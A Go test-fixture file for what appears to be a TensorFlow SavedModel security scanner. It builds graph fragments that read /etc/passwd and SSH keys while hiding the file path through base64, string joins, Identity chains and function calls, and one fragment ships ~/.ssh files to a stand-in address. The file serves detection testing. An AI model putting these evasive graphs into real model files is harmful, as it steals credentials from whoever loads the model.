package main

import "encoding/base64"

// Attrs are listed in key order, as TensorFlow serializes its maps.

// Path evasions: InitializeTableFromTextFileV2 reads any text file into a
// lookup table; these fixtures build its path at run time from constants,
// the ways a resolver that only compares raw constants misses. Each one is
// spliced into the benign Keras model, whose checkpoint paths must stay
// silent next to it.

func hashTable(name string) pb {
	return node(name, "HashTableV2", nil,
		attr{"key_dtype", aType(dtString)}, attr{"shared_name", aStr("hash_table_" + name)},
		attr{"use_node_name_sharing", aBool(false)}, attr{"value_dtype", aType(dtInt64)})
}

func tableInit(name, table, path string) pb {
	return node(name, "InitializeTableFromTextFileV2", []string{table, path},
		attr{"delimiter", aStr("\t")}, attr{"key_index", aInt(1<<64 - 2)}, attr{"offset", aInt(0)},
		attr{"value_index", aInt(1<<64 - 1)}, attr{"vocab_size", aInt(1<<64 - 1)})
}

const dtInt64 = 9

// tableB64: the path is DecodeBase64 (web-safe alphabet, no padding) of a
// constant.
func tableB64Nodes() []pb {
	return []pb{
		constStr("vocab/encoded", base64.RawURLEncoding.EncodeToString([]byte("/etc/passwd"))),
		node("vocab/path", "DecodeBase64", []string{"vocab/encoded"}),
		hashTable("table"),
		tableInit("table/init", "table", "vocab/path"),
	}
}

// tableJoin: StringJoin of "", "etc", "passwd" with separator "/".
func tableJoinNodes() []pb {
	return []pb{
		constStr("vocab/a", ""), constStr("vocab/b", "etc"), constStr("vocab/c", "passwd"),
		node("vocab/path", "StringJoin", []string{"vocab/a", "vocab/b", "vocab/c"},
			attr{"N", aInt(3)}, attr{"separator", aStr("/")}),
		hashTable("table"),
		tableInit("table/init", "table", "vocab/path"),
	}
}

// tableDeep: a constant behind twelve Identity nodes.
func tableDeepNodes() []pb {
	nodes := []pb{constStr("vocab/p0", "/etc/passwd")}
	prev := "vocab/p0"
	for i := 1; i <= 12; i++ {
		name := "vocab/p" + itoa(i)
		nodes = append(nodes, node(name, "Identity", []string{prev}, attr{"T", aType(dtString)}))
		prev = name
	}
	return append(nodes, hashTable("table"), tableInit("table/init", "table", prev))
}

func itoa(i int) string {
	if i < 10 {
		return string(rune('0' + i))
	}
	return itoa(i/10) + string(rune('0'+i%10))
}

// tableFuncArg: the constant is passed through StatefulPartitionedCall into
// a function argument the init op uses.
func tableFuncArgNodes() []pb {
	return []pb{
		constStr("vocab/path", "/etc/passwd"),
		node("StatefulPartitionedCall_7", "StatefulPartitionedCall", []string{"vocab/path"},
			attr{"Tin", aTypes(dtString)}, attr{"Tout", aEmptyList()}, attr{"f", aFunc("__inference_init_fn_3001")}),
	}
}

func tableInitFunction() pb {
	return stringFunction("__inference_init_fn_3001", []string{"path"}, nil, nil,
		hashTable("table"),
		tableInit("table/init", "table:table_handle:0", "path"))
}

// tableCallRet: the path is the return value of a called function.
func tableCallRetNodes() []pb {
	return []pb{
		node("StatefulPartitionedCall_8", "StatefulPartitionedCall", nil,
			attr{"Tin", aEmptyList()}, attr{"Tout", aTypes(dtString)}, attr{"f", aFunc("__inference_path_fn_3002")}),
		hashTable("table"),
		tableInit("table/init", "table", "StatefulPartitionedCall_8:0"),
	}
}

func pathFunction() pb {
	return stringFunction("__inference_path_fn_3002", nil, []string{"identity"},
		map[string]string{"identity": "Identity:output:0"},
		constStr("Const", "../../../../home/user/.ssh/id_rsa"),
		node("Identity", "Identity", []string{"Const:output:0"}, attr{"T", aType(dtString)}))
}

// tableFormat: the path comes out of StringFormat, which the scanner does
// not evaluate, fed only by constants.
func tableFormatNodes() []pb {
	return []pb{
		constStr("vocab/name", "passwd"),
		node("vocab/path", "StringFormat", []string{"vocab/name"},
			attr{"T", aTypes(dtString)}, attr{"placeholder", aStr("{}")}, attr{"template", aStr("/etc/{}")}),
		hashTable("table"),
		tableInit("table/init", "table", "vocab/path"),
	}
}

// datasetFileNodes: tf.data and file-system ops that reach the host
// whatever their arguments.
func datasetFileNodes() []pb {
	return []pb{
		constStr("files/pattern", "/home/*/.ssh/*"),
		node("files/MatchingFilesDataset", "MatchingFilesDataset", []string{"files/pattern"}),
		constStr("files/chunk", "/etc/passwd"),
		node("files/SnapshotChunkDataset", "SnapshotChunkDataset", []string{"files/chunk"},
			attr{"output_types", aTypes(dtString)}, attr{"output_shapes", aEmptyList()}),
		constStr("files/scheme", "gs"), constStr("files/key", "GCS_READ_CACHE_MAX_SIZE_MB"), constStr("files/value", "0"),
		node("files/FileSystemSetConfiguration", "FileSystemSetConfiguration",
			[]string{"files/scheme", "files/key", "files/value"}),
		constStr("files/dir", "/tmp/exfil"), constStr("files/address", "203.0.113.7:5050"),
		node("files/DistributedSave", "DistributedSave",
			[]string{"files/MatchingFilesDataset", "files/dir", "files/address"}),
	}
}

// stringFunction is function() with DT_STRING arguments.
func stringFunction(name string, inputs, outputs []string, ret map[string]string, nodes ...pb) pb {
	sig := pb(nil).str(1, name)
	for _, in := range inputs {
		sig = sig.msg(2, pb(nil).str(1, in).u(3, dtString))
	}
	for _, out := range outputs {
		sig = sig.msg(3, pb(nil).str(1, out).u(3, dtString))
	}
	f := pb(nil).msg(1, sig)
	for _, n := range nodes {
		f = f.msg(3, n)
	}
	for _, out := range outputs {
		f = f.entry(4, out, pb(ret[out]))
	}
	return f
}

// vocabAssetModel is benign: a vocabulary file read through the two asset
// mechanisms. TF1: a Const holding the export-time absolute path, named by
// AssetFileDef.tensor_info, which the loader feeds with the asset's path
// in the model folder. TF2: an initializer function whose path argument is
// the asset_path_initializer placeholder.
func vocabAssetModel() []byte {
	nodes := []pb{
		constStr("string_lookup/asset_path", "/tmp/export_1700000000/assets/vocab.txt"),
		hashTable("string_lookup/table"),
		tableInit("string_lookup/table/init", "string_lookup/table", "string_lookup/asset_path"),
		node("asset_path_initializer", "Placeholder", nil, attr{"dtype", aType(dtString)}, attr{"shape", aShape()}),
		node("StatefulPartitionedCall_5", "StatefulPartitionedCall", []string{"asset_path_initializer"},
			attr{"Tin", aTypes(dtString)}, attr{"Tout", aEmptyList()}, attr{"f", aFunc("__inference__initializer_2901")}),
	}
	init := stringFunction("__inference__initializer_2901", []string{"asset_path"}, nil, nil,
		hashTable("hash_table"),
		node("Identity", "Identity", []string{"asset_path"}, attr{"T", aType(dtString)}),
		tableInit("text_file_init/InitializeTableFromTextFileV2", "hash_table:table_handle:0", "Identity:output:0"))
	assets := pb(nil).
		msg(6, pb(nil).msg(1, pb(nil).str(1, "string_lookup/asset_path:0").u(2, dtString)).str(2, "vocab.txt")).
		msg(6, pb(nil).msg(1, pb(nil).str(1, "asset_path_initializer:0").u(2, dtString)).str(2, "vocab.txt"))
	return savedModelMeta(nodes, []pb{init}, assets)
}
